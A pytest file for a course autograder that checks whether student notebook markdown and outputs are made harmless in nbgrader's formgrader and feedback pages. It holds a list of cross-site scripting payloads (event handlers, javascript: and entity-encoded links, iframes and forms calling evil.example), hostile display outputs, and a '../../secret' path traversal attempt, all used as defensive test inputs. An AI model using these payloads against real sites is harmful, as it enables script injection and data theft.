"""Every page made from a student's notebook is safe after rendering (issue 44): a hand-in's markdown and outputs
can neither run script nor fetch from another host nor link to a script, in the autograded notebook whatever
renders it, in the formgrader (nbgrader's formgrade template, which renders markdown without its sanitizer) and
on the feedback page; typesetting a page's formulas is bounded; the feedback summary quotes only the course's
lessons. Quick: nothing here executes a notebook or grades (the notebooks are the release's, with the hostile
cells and the outputs a kernel could have sent written in; the pages are made by nbconvert's exporter with the
course's configuration, as the formgrader and `nbgrader generate_feedback` make them).

The real thing, as the instructor sees it in Chromium (bob hands in these cells, the formgrader shows his
autograded notebook, feedback is generated and opened): tests/lab/test_roles.py.
"""

from __future__ import annotations

import base64
import copy
import re
import time
from pathlib import Path

import nbformat
import pytest
from bleach._vendor import html5lib           # the HTML5 parsing algorithm, as a browser reads a page
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tools.course import COURSE

pytestmark = pytest.mark.quick

A = "01-layernorm"
MARK = "PWN"            # every payload's active part names it: a page is inert when no attribute carries it

# Script, frames, forms, refreshes, remote fetches and script links, as markdown and as raw HTML.
PAYLOADS = {
    "img onerror": '<img src=x onerror="PWN()">',
    "svg onload": '<svg onload="PWN()"><circle r="1"></circle></svg>',
    "script": "<script>PWN()</script>",
    "javascript link": "[click](javascript:PWN())",
    "javascript link, tab inside": "[click](java&#9;script:PWN())",
    "javascript link, mixed case": "[click](JaVaScRiPt:PWN())",
    "vbscript link": "[click](vbscript:PWN)",
    "data:text/html link": "[click](data:text/html;base64,PWN)",
    "javascript reference link": "[click][r]\n\n[r]: javascript:PWN()",
    "javascript autolink": "<javascript:PWN()>",
    "html javascript link": '<a href="javascript:PWN()">click</a>',
    "iframe": '<iframe src="https://evil.example/PWN"></iframe>',
    "object": '<object data="https://evil.example/PWN"></object>',
    "form": '<form action="https://evil.example/PWN"><input name="q"><button formaction="/PWN">go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/PWN">',
    "base": '<base href="https://evil.example/PWN/">',
    "style with remote url": "<style>body { background: url(https://evil.example/PWN.png) }</style>",
    "style attribute": '<p style="background: url(https://evil.example/PWN.png)">x</p>',
    "remote img": '<img src="https://tracker.example/PWN.png">',
    "remote markdown image": "![](https://tracker.example/PWN.png)",
    "scheme-relative link": '<a href="//evil.example/PWN">x</a>',
    "scheme-relative markdown link": "[x](//evil.example/PWN)",
    "link inside an html block": "<div>\n\n[x](javascript:PWN())\n\n</div>",
    "href in a formula": r"A formula $\href{javascript:PWN()}{x}$",
    # An entity in the value, decoded once by the parser and again by a judge, reads as a scheme the browser
    # never sees: it resolves `http&colon;//../..` as a path on the server that shows the page.
    "entity-encoded scheme link": '<a href="http&amp;colon;//../../PWN">x</a>',
    "entity-encoded scheme markdown link": "[x](http&amp;colon;//../../PWN)",
    "entity-encoded scheme image": '<img src="data&amp;colon;image/png;base64,AAAA/PWN">',
}
TYPESET = {"href in a formula"}         # a payload once the feedback page typesets it (MathJax's \href)
# Elements a hand-in may never add to a page (the page's own template has some of them: counted against a
# page made from the same notebook without the hostile cells).
ACTIVE = {"script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea", "select",
          "meta", "base", "link", "style", "svg", "video", "audio", "source", "portal"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset",
                  "ping", "content"}


def elements(page: str):
    return list(html5lib.parse(page, namespaceHTMLElements=False).iter())


def tag(element) -> str:
    return str(element.tag).rsplit("}", 1)[-1].lower()


def findings(page: str, baseline: str = "") -> list[str]:
    """What in `page`, and not in `baseline`, could run script, fetch from another host or link to a script."""
    found, base = [], elements(baseline) if baseline else []
    counts = {name: sum(tag(e) == name for e in base) for name in ACTIVE}
    known = {(tag(e), name, value) for e in base for name, value in e.attrib.items()}
    page_elements = elements(page)
    for name in ACTIVE:
        extra = sum(tag(e) == name for e in page_elements) - counts[name]
        if extra > 0:
            found.append(f"{extra} <{name}> more than the page without the hand-in's cells")
    for element in page_elements:
        if tag(element) in ("script", "style") and MARK.lower() in "".join(element.itertext()).lower():
            found.append(f"<{tag(element)}> running the payload")
        for name, value in element.attrib.items():
            name = str(name).lower()
            if (tag(element), name, value) in known:
                continue
            url = re.sub(r"[\x00-\x20]", "", str(value))
            # A link to an http(s) host is a link (the reader chooses to follow it); an image is one the page
            # carries (data: an image, which runs nothing in an <img>); nothing else may name a URL.
            link = name == "href" and tag(element) == "a" and re.match(r"^(https?://[^/\\]|mailto:|#)", url, re.I)
            image = name == "src" and tag(element) == "img" and re.match(r"^data:image/", url, re.I)
            if name.startswith("on"):
                found.append(f"<{tag(element)} {name}={value!r}>: an event handler")
            elif name in URL_ATTRIBUTES and not (link or image):
                found.append(f"<{tag(element)} {name}={value!r}>")
            elif MARK.lower() in str(value).lower() and not link:
                found.append(f"<{tag(element)} {name}={value!r}>")
    return found


def release() -> nbformat.NotebookNode:
    return nbformat.read(COURSE.release_notebook(A), as_version=4)


PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32).decode()


def hostile_outputs() -> list:
    """What a student's code can display: every rich type, each carrying the payload."""
    return [
        new_output("display_data", data={"text/html": '<b>table</b><img src=x onerror="PWN()"><a href="//evil/PWN">x</a>',
                                         "text/plain": "<table>"}),
        new_output("display_data", data={"image/svg+xml": '<svg onload="PWN()"></svg>'}),
        new_output("display_data", data={"application/javascript": "PWN()", "text/plain": "js"}),
        new_output("display_data", data={"text/markdown": "[x](javascript:PWN()) <img src=x onerror=PWN()>"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "PWN"}}),
        new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"},
                   metadata={"image/png": {"width": '1 onerror="PWN()"', "height": 20}}),
        new_output("execute_result", data={"text/html": "<script>PWN()</script>", "text/plain": "x"}, execution_count=1),
        new_output("display_data", data={"image/png": 'x" onerror="PWN()', "text/plain": "<Figure>"}),
    ]


def hostile_notebook(payloads=PAYLOADS) -> nbformat.NotebookNode:
    """The release with one markdown cell per payload after its first cell, and a code cell with hostile outputs."""
    nb = release()
    cells = [new_markdown_cell(f"**{name}**: {payload}") for name, payload in payloads.items()]
    output_cell = new_code_cell("display(...)")
    output_cell.outputs = hostile_outputs()
    nb.cells[1:1] = [*cells, output_cell]
    return nb


def safe(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    from autograder.pages.safe_markup import SafeMarkup

    nb, _ = SafeMarkup().preprocess(copy.deepcopy(nb), {})
    return nb


@pytest.fixture(scope="module")
def config():
    """The course's nbgrader configuration, as the formgrader and `nbgrader generate_feedback` load it."""
    from traitlets.config.loader import PyFileConfigLoader

    return PyFileConfigLoader("nbgrader_config.py", path=str(COURSE.autograder)).load_config()


def formgrade_page(nb, config) -> str:
    """The formgrader's view of a submission: nbgrader's formgrade template, set up as its FormgradeExtension
    sets up its HTMLExporter, with the course's configuration."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    c = Config()
    c.HTMLExporter.template_name = "formgrade"
    c.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    c.merge(copy.deepcopy(config))          # merge shares sub-sections: the course's own must stay as loaded
    resources = {"base_url": "/user", "index": 0, "total": 1, "notebook_id": "layernorm", "submission_id": "1",
                 "assignment_id": A, "student": "bob", "last_name": None, "first_name": None, "notebook_path": "x"}
    page, _ = HTMLExporter(config=c).from_notebook_node(copy.deepcopy(nb), resources=resources)
    return page


def feedback_page(nb, config, with_summary: bool = True) -> str:
    """A feedback page as `nbgrader generate_feedback` makes it with the course's configuration (its template and
    its preprocessors; GetGrades' scores, from a gradebook, are given in the resources instead)."""
    import os

    import nbgrader
    from nbconvert.exporters import HTMLExporter
    from nbgrader.preprocessors import GetGrades
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    from autograder.pages.summary import FeedbackSummary
    from bs4 import BeautifulSoup

    c = Config()
    c.merge(copy.deepcopy(config))          # merge shares sub-sections: the course's own must stay as loaded
    c.HTMLExporter.template_name = "feedback"
    c.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    c.HTMLExporter.extra_template_paths = [os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions",
                                                        "formgrader", "static", "node_modules", "bootstrap", "dist", "css")]
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        record = cell.metadata.get("nbgrader", {})
        if record.get("grade"):
            record["score"] = 0.0            # what GetGrades reads from the gradebook

    def page_by(exporter_class) -> str:
        exporter = exporter_class(config=c)
        for preprocessor in config.GenerateFeedback.preprocessors:
            if preprocessor is not GetGrades and (with_summary or preprocessor is not FeedbackSummary):
                exporter.register_preprocessor(preprocessor, enabled=True)
        resources = {"nbgrader": {"notebook": "layernorm", "assignment": A, "student": "bob", "score": 3.0,
                                  "max_score": 22.0, "late_penalty": 0}}
        return exporter.from_notebook_node(copy.deepcopy(nb), resources=resources)[0]

    # The course's exporter (pages/feedback_page.py) writes nbconvert's page without re-serializing it: read back
    # by BeautifulSoup, as nbconvert's HTMLExporter reads it, every hostile page is exactly that exporter's.
    page = page_by(config.GenerateFeedback.exporter_class)
    assert str(BeautifulSoup(page, features="html.parser")) == page_by(HTMLExporter)
    return page


# --- the autograded notebook, whatever renders it ---------------------------------------------------------------

def renderings(markdown: str) -> dict[str, str]:
    """A markdown cell's HTML in renderers that pass raw HTML and every link through: nbconvert's mistune (what
    nbconvert's templates and nbgrader's use) and markdown-it (VS Code's, Jupyter Book's parser)."""
    from markdown_it import MarkdownIt
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True
    return {"nbconvert": markdown2html_mistune(markdown), "markdown-it": md.render(markdown)}


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_hostile_markdown_is_inert_in_any_renderer_after_autograding(name):
    source = f"Some words, then {PAYLOADS[name]}\n\nand a formula $x_i < y$."
    if name not in TYPESET:
        assert any(findings(html) for html in renderings(source).values()), "the payload is not one"
    nb = safe(nbformat.v4.new_notebook(cells=[new_markdown_cell(source)]))
    cell = nb.cells[0]
    for renderer, html in renderings(cell.source).items():
        assert findings(html) == [], f"{renderer}: {findings(html)}\n{cell.source}"
    assert "Some words" in cell.source                                      # the text and the TeX stay
    assert "$x_i &lt; y$" in cell.source if cell.metadata.get("course_safe_markup") else "$x_i < y$" in cell.source


def test_honest_markdown_stays_exactly_as_written():
    """Every markdown cell of every release and master is left as it is: formulas, code with `<`, links."""
    from autograder.pages.safe_markup import is_plain

    for path in [*COURSE.master_notebooks(), *(COURSE.release_notebook(a) for a in COURSE.assignments())]:
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            if cell.cell_type == "markdown":
                assert is_plain(cell.source), f"{path.name}: {cell.source[:200]}"
    honest = ("A table\n\n| a | b |\n|---|--:|\n| $x<1$ | `i < j` |\n\n[the lesson](https://example.org/book/x.html#s), "
              "[above](#part-1), [mail](mailto:ada@example.org), ![a figure](attachment:figure.png)")
    assert safe(nbformat.v4.new_notebook(cells=[new_markdown_cell(honest)])).cells[0].source == honest


def test_outputs_keep_text_and_pictures_and_lose_what_runs():
    nb = safe(hostile_notebook({}))
    outputs = next(cell for cell in nb.cells if cell.cell_type == "code" and len(cell.outputs) == len(hostile_outputs())
                   ).outputs
    kinds = [sorted(output.data) for output in outputs]
    assert kinds == [["text/html", "text/plain"], ["text/plain"], ["text/plain"], ["text/markdown"], ["text/plain"],
                     ["image/png", "text/plain"], ["text/html", "text/plain"], ["text/plain"]], kinds
    assert outputs[0].data["text/html"].startswith("<b>table</b>") and outputs[5].data["image/png"] == PNG
    assert outputs[5].metadata == {"image/png": {"height": 20}}
    # Shown by nbconvert's own HTML export without its sanitizer (as any viewer might): nothing runs.
    from nbconvert.exporters import HTMLExporter

    page, _ = HTMLExporter(sanitize_html=False).from_notebook_node(nb)
    baseline, _ = HTMLExporter(sanitize_html=False).from_notebook_node(release())
    assert findings(page, baseline) == []
    assert "data:image/png;base64," + PNG in page


# --- the instructor's formgrader and the student's feedback page -------------------------------------------------

def test_formgrader_shows_a_hostile_notebook_inert_even_if_it_was_graded_before(config):
    """nbgrader's formgrade template renders markdown without its sanitizer: the course's configuration
    replaces the filters it renders with, so a notebook graded before SafeMarkup (or by stock nbgrader) is
    inert too, and one graded now is doubly so."""
    baseline = formgrade_page(release(), config)
    for nb in (hostile_notebook(), safe(hostile_notebook())):
        page = formgrade_page(nb, config)
        assert findings(page, baseline) == []
        assert "javascript link, tab inside" in page and "A formula" in page


def test_feedback_page_is_inert_and_keeps_its_links_and_formulas(config):
    nb = hostile_notebook()
    nb.cells.insert(1, new_markdown_cell("Raw HTML makes this cell HTML: <b>bold</b>, and still $a < b$."))
    baseline = feedback_page(release(), config, with_summary=False)
    for notebook in (nb, safe(nb)):
        page = feedback_page(notebook, config, with_summary=False)
        assert findings(page, baseline) == []
    # The formula of a cell SafeMarkup made HTML is still typeset.
    assert re.search(r"<mi>a</mi>\s*<mo>&lt;</mo>\s*<mi>b</mi>", page), "the formula was not typeset"


# --- typesetting is bounded ---------------------------------------------------------------------------------

def test_a_page_of_formulas_is_typeset_in_bounded_time_and_size(config):
    """110,000 `$a$` (0.44 MB of markdown) once made a 7 MB page in minutes. Now at most TypesetMath.max_formulas
    are typeset, the rest stay TeX with a note, and the whole feedback page takes seconds (measured: about 3 s
    here; the bound below allows a loaded machine)."""
    from autograder.pages.formulas import NOTE, TypesetMath

    nb = release()
    nb.cells.insert(1, new_markdown_cell("$a$ " * 110_000))
    started = time.monotonic()
    typeset, _ = TypesetMath().preprocess(copy.deepcopy(nb), {})
    assert sum(cell.source.count("<math") for cell in typeset.cells) <= 1000       # TypesetMath.max_formulas: 500
    note = [cell for cell in typeset.cells if NOTE in cell.metadata]
    assert len(note) == 1 and "shown as TeX" in note[0].source
    page = feedback_page(nb, config, with_summary=False)
    elapsed = time.monotonic() - started
    assert elapsed < 60, f"the page took {elapsed:.0f} s"
    assert len(page) < 2_500_000, f"the page is {len(page):,} characters"


TANGLES = {
    # 1,500 unclosed formatting elements, each unlike the others, opened again in each of 3,000 blocks.
    "many elements": "<p>" + "".join(f"<b {i:x}>" for i in range(1500)) + "<p>x" * 3000,
    # One element whose kept attribute is long, copied into each of 24,000 blocks (a second review: 90 KB of
    # title made 500 MB; a 196-KB HTML output, 2.4 GB and the worker killed).
    "long attributes": '<p><a title="' + "t" * 20_000 + '">' + "<p>x" * 24_000,
    "long code class": '<p><code class="' + "c" * 20_000 + '">' + "<p>x" * 24_000,
}


@pytest.mark.parametrize("tangle", TANGLES)
@pytest.mark.parametrize("where", ["markdown cell", "html output", "raw cell", "rendered page"])
def test_tangled_html_is_shown_as_text_not_parsed_into_a_huge_page(where, tangle):
    """A review's 22-KB cell (1,500 unclosed `<b>` each unlike the others, then 3,000 `<p>`) parsed into a 32-MB
    autograded notebook and 1.2 GB of the grader's memory: a browser's parse opens every formatting element again
    in each new block, attributes and all. It is shown as its text instead, at about its own size, wherever a
    hand-in's HTML is read."""
    from autograder.pages.allow_list import clean_html
    from autograder.pages.safe_markup import SafeMarkup

    tangle = TANGLES[tangle]
    notebook = release()
    notebook.cells.append(new_markdown_cell(tangle) if where == "markdown cell" else
                          nbformat.v4.new_raw_cell(tangle) if where == "raw cell" else
                          new_code_cell("", outputs=[new_output("display_data",
                                                                data={"text/html": tangle, "text/plain": "x"})]))
    if where == "rendered page":
        shown = clean_html(tangle)
    else:
        safe, _ = SafeMarkup().preprocess(notebook, {})
        cell = safe.cells[-1]
        shown = cell.source if cell.cell_type != "code" else cell.outputs[0]["data"].get("text/html", "")
    assert len(shown) < 3 * len(tangle) and not re.search(r"<(b|a|code)\b", shown)


def test_many_small_tangles_share_one_allowance_per_notebook():
    """Each piece within its own bound, many pieces add up: 400 cells of 1.3 KB, each parsed into 107 KB, would make
    a 43-MB notebook from 515 KB. A notebook's pieces share one allowance; past it they are shown as text."""
    from autograder.pages.safe_markup import SafeMarkup

    piece = "<p>" + "".join(f"<b {i:x}>" for i in range(150)) + "<p>x" * 100
    notebook = release()
    notebook.cells += [new_markdown_cell(piece) for _ in range(400)]
    safe, _ = SafeMarkup().preprocess(notebook, {})
    shown = sum(len(cell.source) for cell in safe.cells[-400:])
    assert shown < 10 * 400 * len(piece), f"{shown:,} characters from {400 * len(piece):,}"
    assert sum("<b" in cell.source for cell in safe.cells[-400:]) >= 1      # the first pieces are still parsed


# --- the summary's lessons ---------------------------------------------------------------------------------------

def test_the_summary_reads_only_the_courses_lessons_never_a_path_from_the_hand_in(tmp_path):
    """A hand-in's `lessons` metadata naming a file outside book/ (absolute, or ../..) is ignored: the summary
    quotes the lessons the master names."""
    import shutil

    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import LoggingConfigurable

    from autograder.pages.summary import FeedbackSummary

    course = tmp_path / "course"
    (course / "book").mkdir(parents=True)
    shutil.copy(COURSE.root / "book" / f"{A}.md", course / "book")
    (course / "solutions" / A).mkdir(parents=True)
    shutil.copy(COURSE.master_notebook(A), course / "solutions" / A)
    secret = tmp_path / "secret.md"
    secret.write_text("# SECRET TITLE\n\n## SECRET SECTION about variance mean layernorm\n\nvariance mean layernorm\n")

    class Grader(LoggingConfigurable):
        pass

    grader = Grader()
    grader.coursedir = CourseDirectory(root=str(course), source_directory="solutions", release_directory="exercises")
    nb = release()
    # A check that lost its points, with a message whose words are the secret section's.
    check = next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")
                 and not cell.metadata["nbgrader"].get("solution"))
    check.metadata.nbgrader["points"] = 1
    check.metadata.nbgrader["score"] = 0
    check.outputs = [new_output("error", ename="AssertionError", evalue="variance mean layernorm", traceback=[])]
    resources = {"nbgrader": {"assignment": A, "notebook": Path(COURSE.master_notebook(A)).stem}}
    for lessons in ([str(secret.with_suffix(""))], ["../../secret"], ["../../secret", A]):
        nb.metadata["lessons"] = lessons
        summary = FeedbackSummary(parent=grader, site_url="https://course.example/")
        cell = summary.summary_cell(copy.deepcopy(nb), resources)
        assert "SECRET" not in cell.source, lessons
        assert f"https://course.example/book/{A}.html" in cell.source       # the master's lesson


# --- an attachment the page does not carry -----------------------------------------------------------------------

def test_an_image_naming_a_dropped_or_missing_attachment_shows_no_picture_and_breaks_no_page(config):
    """An SVG attachment is dropped (only raster images are kept), and nbconvert raised InvalidNotebook for the
    reference left behind: that submission's formgrader page answered 500 and the class's generate_feedback
    exited 1. A reference to an attachment the hand-in never had did the same."""
    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="PWN()"/>').decode()
    nb = release()
    dropped = new_markdown_cell("A figure: ![drawn](attachment:figure.svg) and ![absent](attachment:none.png)")
    dropped["attachments"] = {"figure.svg": {"image/svg+xml": svg}}
    kept = new_markdown_cell("A kept one: ![kept](attachment:dot.png)")
    kept["attachments"] = {"dot.png": {"image/png": PNG}}
    nb.cells[1:1] = [dropped, kept]
    for notebook in (nb, safe(nb)):
        for page in (formgrade_page(notebook, config), feedback_page(notebook, config, with_summary=False)):
            assert "A figure:" in page and "PWN" not in page and "image/svg" not in page
            assert "data:image/png;base64," + PNG in page                  # the raster attachment still shows
